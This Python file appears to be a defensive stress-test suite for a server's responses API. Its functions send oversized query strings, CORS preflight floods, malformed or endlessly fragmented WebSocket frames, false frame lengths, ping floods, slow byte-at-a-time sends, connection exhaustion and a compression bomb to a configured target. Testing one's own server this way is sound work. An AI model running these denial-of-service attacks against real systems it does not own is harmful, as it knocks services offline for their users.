@_attack("page through items with impossible numbers")
async def _page_impossibly(clients: Clients) -> None:
    name = await _create(clients) or "resp_0"
    path = f"{RESPONSES}/{name}"
    long = "9" * 5_000
    for query in (
        *(f"limit={value}" for value in ("0", "-1", "1000000000", "1e9", "NaN", long, "٣", "")),
        *(f"after={value}" for value in ("x", "a" * 7_000, "%00", "%ff", "'--", long)),
        *(f"order={value}" for value in ("asc", "x" * 7_000, "%00")),
        "before=x&after=y&limit=100",
        "include=" + "x," * 3_000,
    ):
        await clients.ask(request(clients.target, f"{path}/input_items?{query}"), seconds=1)
    for value in ("-1", "1000000000", "9" * 30, long, "NaN", "1.5", ""):
        query = f"?stream=true&starting_after={value}"
        await clients.ask(request(clients.target, path + query), seconds=1)
    query = "?limit=1000000000&after=" + "a" * 7_000
    await clients.ask(request(clients.target, RESPONSES + query), seconds=1)


@_attack("ask for permission of other origins thousands of times")
async def _flood_preflight(clients: Clients) -> None:
    target = clients.target
    heads = (
        "Access-Control-Request-Method: POST",
        "Access-Control-Request-Headers: " + "x-a," * 1_500,
    )
    preflights = [
        request(
            target,
            RESPONSES,
            None,
            f"Origin: http://o{i}.test",
            *heads,
            method="OPTIONS",
            close=False,
        )
        for i in range(2_000)
    ]
    await clients.pipeline(b"".join(preflights[:1_000]), 1_000, seconds=4)
    await clients.ask_together(preflights[1_000:1_300], at_once=50, seconds=2)
    body = fields(target, b'"input":"Hi","x":"' + b"a" * 8_000_000 + b'"')
    await clients.ask(request(target, RESPONSES, body, "Origin: http://other.test"))


# WebSockets.


def frame(
    payload: bytes,
    opcode: int = 1,
    *,
    final: bool = True,
    reserved: int = 0,
    key: bytes | None = b"\0\0\0\0",
    length: int | None = None,
) -> bytes:
    """Write a frame of a client; the length may be a lie, and the mask may be missing."""
    size = len(payload) if length is None else length
    mask = 0 if key is None else 128
    head = bytes([(128 if final else 0) | reserved << 4 | opcode])
    if size < 126:
        head += bytes([mask | size])
    elif size < 1 << 16:
        head += bytes([mask | 126]) + struct.pack(">H", size)
    else:
        head += bytes([mask | 127]) + struct.pack(">Q", size)
    if key is None:
        return head + payload
    if any(key):
        pad = (key * (len(payload) // 4 + 1))[: len(payload)]
        mixed = int.from_bytes(payload, "big") ^ int.from_bytes(pad, "big")
        payload = mixed.to_bytes(len(payload), "big")
    return head + key + payload


def create(target: Target, text: bytes = b"") -> bytes:
    """Write the message that asks for a response over a WebSocket."""
    return b'{"type":"response.create",' + fields(target, text)[1:]


@_attack("send WebSocket messages one byte around the limit")
async def _talk_edge(clients: Clients) -> None:
    base = len(create(clients.target, b'"input":"Hi","x":""'))
    for size in (MOST_BODY - 1, MOST_BODY, MOST_BODY + 1, MOST_REQUEST - 1024):
        text = b'"input":"Hi","x":"' + b"a" * (size - base) + b'"'
        for key in (b"\0\0\0\0", b"abcd"):
            await clients.talk(frame(create(clients.target, text), key=key), seconds=4)


@_attack("send WebSocket messages of every shape")
async def _talk_shapes(clients: Clients) -> None:
    for shape in write_shapes(MOST_VALUES - 100, MOST_BODY - 1024):
        message = create(clients.target, b'"input":"Hi","x":' + shape)
        await clients.talk(frame(message), seconds=3)


@_attack("send WebSocket messages that are only a shape")
async def _talk_bare_shapes(clients: Clients) -> None:
    for shape in write_shapes(8 * MOST_VALUES // 5, MOST_BODY - 1024):
        await clients.talk(frame(shape), seconds=3)


@_attack("send a WebSocket message in 10,000 fragments")
async def _talk_fragments(clients: Clients) -> None:
    text = create(clients.target, b'"input":"Hi","x":"' + b"a" * 10_000 + b'"')
    tiny = b"".join(frame(bytes([byte]), 0, final=False) for byte in text[1:])
    await clients.talk(frame(text[:1], final=False) + tiny + frame(b"", 0))
    start = frame(text[:-1], final=False)
    await clients.talk(start + frame(b"", 0, final=False) * 1_000_000 + frame(b"}", 0))
    big = frame(b" " * 800, 0, final=False) * 10_000
    await clients.talk(start + big + frame(b"}", 0))


@_attack("send fragments of a WebSocket message without end")
async def _talk_endless_fragments(clients: Clients) -> None:
    data = frame(b"[", final=False) + frame(b"[]," * 333, 0, final=False) * 9_000
    for _ in range(4):
        await clients.talk(data, seconds=2)
    await clients.ask_together([upgrade(clients.target) + data[: 7 * MIB]] * 6, seconds=4)


@_attack("leave more WebSocket messages unfinished than are allowed together")
async def _talk_unfinished(clients: Clients) -> None:
    data = upgrade(clients.target) + frame(b"a" * 8_200_000)[:-1]
    await clients.hold([data] * 12)


@_attack("leave WebSocket messages unfinished in fragments")
async def _talk_unfinished_fragments(clients: Clients) -> None:
    first = frame(b'"' + b"a" * 60_000, final=False)
    data = upgrade(clients.target) + first + frame(b"a" * 60_000, 0, final=False) * 130
    await clients.hold([data] * 12)


@_attack("claim long WebSocket frames and send none", many=True)
async def _talk_claims(clients: Clients) -> None:
    for length, count in ((MOST_BODY, 250), (MOST_REQUEST, 100), (2**63 - 1, 50), (2**64 - 1, 50)):
        data = upgrade(clients.target) + frame(b"{", length=length)
        await clients.ask_together([data] * count, seconds=2.5)


@_attack("ping a WebSocket without reading")
async def _talk_pings(clients: Clients) -> None:
    start = upgrade(clients.target)
    await clients.hold([start + frame(b"a" * 125, 9) * 60_000] * 10, seconds=5)
    await clients.hold([start + frame(b"", 9) * 200_000] * 5, seconds=5)


@_attack("ping in the middle of a WebSocket message")
async def _talk_pings_between(clients: Clients) -> None:
    text = create(clients.target)
    data = frame(text[:10], final=False) + frame(b"p", 9) * 100_000 + frame(text[10:], 0)
    await clients.talk(data, seconds=5)
    data = frame(b"", 10) * 500_000 + frame(text)
    await clients.talk(data, seconds=5)


@_attack("send WebSocket messages and never read")
async def _talk_unread(clients: Clients) -> None:
    start = upgrade(clients.target)
    wrong = frame(b'{"type":"' + b"x" * 1_000 + b'"}') * 5_000
    right = frame(create(clients.target, b'"input":"Count to ninety."')) * 1_000
    await clients.hold([start + wrong] * 10, seconds=5)
    await clients.hold([start + right] * 50, seconds=6)


@_attack("send 100 WebSocket messages in one go")
async def _talk_pipelined(clients: Clients) -> None:
    message = frame(create(clients.target))
    await clients.talk(message * 100, replies=100, seconds=6)
    long = frame(create(clients.target, b'"input":"Hi","x":"' + b"a" * 900_000 + b'"'))
    await clients.talk(long * 11, replies=11, seconds=6)


@_attack("send long WebSocket messages behind one that is answered")
async def _talk_queue(clients: Clients) -> None:
    first = frame(
        create(clients.target, b'"input":"Count to ninety."').replace(b": 16,", b": 400,")
    )
    long = frame(create(clients.target, b'"input":"Hi","x":' + repeat(b"[]", 240_000)))
    await clients.hold([upgrade(clients.target) + first + long * 10] * 10)


@_attack("open as many WebSockets as are allowed, and more", many=True)
async def _talk_many(clients: Clients) -> None:
    half = MOST_SERVER_CONNECTIONS // 2
    message = upgrade(clients.target) + frame(create(clients.target))
    await clients.ask_together([message] * (half - 6), seconds=4)
    await clients.ask_together([message] * (half + 50), seconds=4)
    await clients.ask_together([upgrade(clients.target)] * 600, seconds=4)


@_attack("open WebSockets and leave at once", many=True)
async def _talk_and_leave(clients: Clients) -> None:
    start = upgrade(clients.target)
    message = frame(create(clients.target))
    await clients.hurry([start] * 200)
    await clients.hurry([start + message] * 200, wait=0.005, reset=True)
    await clients.hurry([start + message + frame(b"\x03\xe8", 8)] * 200, wait=0.005)


@_attack("open WebSockets halfway")
async def _open_half_websockets(clients: Clients) -> None:
    target = clients.target
    whole = upgrade(target)
    requests = [
        whole[:-2],
        whole.replace(b"Version: 13", b"Version: 99"),
        whole.replace(b"MDEyMzQ1Njc4OWFiY2RlZg==", b"a"),
        whole.replace(b"MDEyMzQ1Njc4OWFiY2RlZg==", b"A" * 60_000),
        whole.replace(b"Connection: Upgrade", b"Connection: close"),
        whole.replace(b"Upgrade: websocket", b"Upgrade: " + b"websocket, " * 5_000),
        whole.replace(b"GET", b"POST"),
        whole.replace(b"HTTP/1.1", b"HTTP/1.0"),
        whole.replace(RESPONSES.encode(), b"/v1/models"),
        upgrade(target, b"Origin: http://other.test\r\n"),
        upgrade(target, b"Content-Length: 8000000\r\n"),
        upgrade(target, b"Transfer-Encoding: chunked\r\n"),
        upgrade(target, b"Expect: 100-continue\r\n"),
        upgrade(target, b"Sec-WebSocket-Protocol: " + b"a, " * 15_000 + b"\r\n"),
        upgrade(target, b"Sec-WebSocket-Extensions: " + b"a; b=c, " * 7_000 + b"\r\n"),
        whole + whole,
    ]
    await clients.ask_together(requests * 10, seconds=3)


@_attack("send WebSocket frames that break the rules")
async def _talk_bad_frames(clients: Clients) -> None:
    text = create(clients.target)
    for data in (
        *(frame(text, opcode) for opcode in (0, 2, 3, 7, 11, 15)),
        *(frame(text, reserved=bits) for bits in (1, 2, 4, 7)),
        frame(text, key=None),
        frame(b"a" * 126, 9),
        frame(b"a" * 65_536, 9),
        frame(b"a", 9, final=False),
        frame(b"a", 8),
        frame(b"", 8),
        frame(b"\xff\xff", 8),
        frame(b"\x03\xe8" + b"\xff" * 100, 8),
        frame(b"\xff\xfe{}"),
        frame(b"\xed\xa0\x80"),
        frame(b"a", final=False) * 2,
        frame(b""),
        frame(b"null"),
        frame(b"[]"),
        frame(b'"a"'),
        b"\x81\xfe\x00\x01abcd{",
        b"\x81\xff" + b"\0" * 7 + b"\x01abcd{",
        bytes(range(256)) * 100,
        frame(b"\x03\xe8", 8) * 100_000,
        frame(b"\0" * (7 * MIB), 2),
        frame(b"{}") * 1_000,
    ):
        await clients.talk(data, seconds=1)


@_attack("send compressed WebSocket messages that unpack to much")
async def _talk_compressed(clients: Clients) -> None:
    packed = squeeze(BOMB_BYTES, bits=-15, byte=b"[")
    offers = (
        b"Sec-WebSocket-Extensions: permessage-deflate\r\n",
        b"Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=15\r\n",
        b"",
    )
    for heads in offers:
        for data in (frame(packed, reserved=4), frame(packed, reserved=4, key=b"abcd") * 4):
            await clients.talk(data, seconds=2, heads=heads)


@_attack("send a WebSocket message a byte at a time", many=True)
async def _talk_slowly(clients: Clients) -> None:
    start = upgrade(clients.target)
    data = frame(create(clients.target, b'"input":"Hi","x":"' + b"a" * 5_000 + b'"'))
    pieces = [start, *(data[index : index + 1] for index in range(len(data)))]
    await clients.ask_together([pieces] * 200, seconds=8, pause=0.1)


@_attack("send a WebSocket message in the smallest segments")
async def _talk_segments(clients: Clients) -> None:
    data = frame(create(clients.target, b'"input":"Hi","x":"' + b"a" * 60_000 + b'"'))
    pieces = [data[index : index + 1] for index in range(len(data))]
    await clients.talk(pieces, seconds=6)
    await clients.ask([request(clients.target)[:30], *([b"a"] * 60_000)], seconds=4)


@_attack("send unknown and wrong messages over a WebSocket")
async def _talk_wrong(clients: Clients) -> None:
    names = (b"response.cancel", b"response.delete", b"session.update", b"x" * 100_000, b"")
    data = b"".join(frame(b'{"type":"%b"}' % name) for name in names) * 20
    await clients.talk(data, replies=100, seconds=3)
    data = b"".join(frame(b'{"type":"response.create","n":%d}' % index) for index in range(5_000))
    await clients.talk(data, replies=5_000, seconds=6)


MANY_CONNECTIONS: frozenset[str] = frozenset(_many)
